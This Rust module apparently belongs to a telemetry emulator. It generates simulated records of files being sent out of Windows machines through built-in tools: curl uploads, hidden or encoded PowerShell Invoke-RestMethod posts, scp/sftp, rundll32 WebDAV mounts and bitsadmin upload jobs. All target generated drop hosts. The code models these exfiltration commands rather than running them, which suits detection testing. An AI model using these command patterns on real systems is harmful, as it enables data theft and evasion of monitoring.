//! Senders that use what Windows ships.

use crate::applications::Account;
use crate::atlas::Reach;
use crate::calendar::{MINUTE, SECOND};
use crate::day::Scene;
use crate::error::EmulateError;
use crate::machine::Program;
use crate::names;
use crate::senders::{Part, Shape};
use crate::session::Place;

type Done = Result<(), EmulateError>;

fn told(place: &Place) -> String {
    place.name.as_deref().map_or_else(|| place.address.to_string(), str::to_owned)
}

/// `curl` puts a file.
pub(crate) fn curl_upload(scene: &mut Scene<'_, '_>, part: &mut Part<'_>) -> Done {
    let place = scene.drop_place(part);
    let (file, word) = (names::document(&mut part.fixed), names::word(&mut part.fixed));
    let command = match part.fixed.below(3) {
        0 => format!("-sS -T {file} https://{}/{word}", told(&place)),
        1 => format!("-k -F file=@{file} https://{}/{word}", told(&place)),
        _ => format!("-sS -X POST --data-binary @{file} https://{}/{word}", told(&place)),
    };
    let mut program = Program::windows("C:\\Windows\\System32\\curl.exe", &command, Account::User);
    (program.company, program.product) =
        ("curl, https://curl.se/".to_owned(), "The curl executable".to_owned());
    let parent = scene.own_parent(part);
    let process = scene.begin(part, &program, parent);
    let mut shape = Shape::tls(part);
    shape.port = part.fixed.one(&[443, 443, 8443, 4443]);
    shape.flows = part.fixed.one(&[1, 1, 2]);
    let last = scene.send(part, Some(&process), &place, &shape)?;
    scene.finish(&process, last);
    Ok(())
}

/// PowerShell posts a file.
pub(crate) fn powershell_upload(scene: &mut Scene<'_, '_>, part: &mut Part<'_>) -> Done {
    let place = scene.drop_place(part);
    let (file, word) = (names::document(&mut part.fixed), names::word(&mut part.fixed));
    let command = match part.fixed.below(4) {
        0 => format!("-NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\{word}.ps1"),
        1 => format!(
            "-w hidden -c \"Invoke-RestMethod -Method Put -InFile {file} https://{}/{word}\"",
            told(&place)
        ),
        2 => format!("-NoP -EncodedCommand {}", part.fixed.hex(120)),
        _ => String::new(),
    };
    let image = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    let account = part.fixed.one(&[Account::User, Account::User, Account::System]);
    let mut program = Program::windows(image, &command, account);
    program.original = "PowerShell.EXE".to_owned();
    let parent = scene.own_parent(part);
    let process = scene.begin(part, &program, parent);
    let shape = Shape::tls(part);
    let last = scene.send(part, Some(&process), &place, &shape)?;
    scene.finish(&process, last);
    Ok(())
}

/// `scp` or `sftp` to a rented server.
pub(crate) fn secure_copy(scene: &mut Scene<'_, '_>, part: &mut Part<'_>) -> Done {
    let place = scene.drop_place(part);
    let tool = part.fixed.pick(&["scp", "sftp"]);
    let word = names::word(&mut part.fixed);
    let parent = Program::windows(
        &format!("C:\\Windows\\System32\\OpenSSH\\{tool}.exe"),
        &format!("-r D:\\{word} {word}@{}:", told(&place)),
        Account::User,
    );
    let above = scene.own_parent(part);
    let copier = scene.begin(part, &parent, above);
    let command = format!(
        "-x -oPermitLocalCommand=no -oClearAllForwardings=yes -l {word} -- {} \"{tool} -t .\"",
        told(&place)
    );
    let mut program = Program::windows("C:\\Windows\\System32\\OpenSSH\\ssh.exe", &command, Account::User);
    (program.company, program.product) = ("-".to_owned(), "OpenSSH for Windows".to_owned());
    let process = scene.start_below(&program, copier.clone(), part.at - 120_000);
    let mut shape = Shape::tls(part);
    (shape.port, shape.service) = (part.fixed.one(&[22, 22, 22, 2_222, 443]), "ssh");
    shape.flows = part.fixed.one(&[1, 1, 2]);
    let last = scene.send(part, Some(&process), &place, &shape)?;
    scene.finish(&process, last);
    scene.finish(&copier, last);
    Ok(())
}

/// A share on the web, mounted by `rundll32` or the kernel's redirector.
pub(crate) fn web_dav(scene: &mut Scene<'_, '_>, part: &mut Part<'_>) -> Done {
    let place = if part.fixed.happens(0.5) {
        scene.drop_name(part)
    } else {
        Place::bare(scene.run.fleet.atlas.address(Reach::Hosting, &mut part.fixed))
    };
    let mut shape = Shape::tls(part);
    (shape.port, shape.service) = part.fixed.one(&[(80, "http"), (443, "ssl"), (8080, "http")]);
    shape.flows = part.fixed.range(2, 10) as u32;
    let host = told(&place);
    let command = format!("C:\\Windows\\system32\\davclnt.dll,DavSetCookie {host} http://{host}/");
    let program = Program::windows("C:\\Windows\\System32\\rundll32.exe", &command, Account::User);
    let helper = scene.begin(part, &program, "C:\\Windows\\System32\\svchost.exe");
    let process = if part.fixed.happens(0.5) { helper.clone() } else { scene.run.machine.kernel() };
    let last = scene.send(part, Some(&process), &place, &shape)?;
    scene.finish(&helper, last);
    Ok(())
}

/// The transfer service is given an upload job by somebody who is gone when it runs.
pub(crate) fn bits_upload(scene: &mut Scene<'_, '_>, part: &mut Part<'_>) -> Done {
    let place = scene.drop_name(part);
    let file = names::document(&mut part.fixed);
    let command = format!(
        "/transfer {} /upload https://{}/{file} C:\\Users\\Public\\{file}",
        names::word(&mut part.fixed),
        told(&place)
    );
    let program = Program::windows("C:\\Windows\\System32\\bitsadmin.exe", &command, Account::User);
    let parent = scene.own_parent(part);
    let starter = scene.begin(part, &program, parent);
    scene.finish(&starter, part.at);
    part.at += scene.chance.range(2 * SECOND, 4 * MINUTE);
    let Some(process) = scene.existing("bits", part.at) else { return Ok(()) };
    let mut shape = Shape::tls(part);
    if part.fixed.happens(0.4) {
        (shape.port, shape.service) = (80, "http");
    }
    scene.send(part, Some(&process), &place, &shape)?;
    Ok(())
}
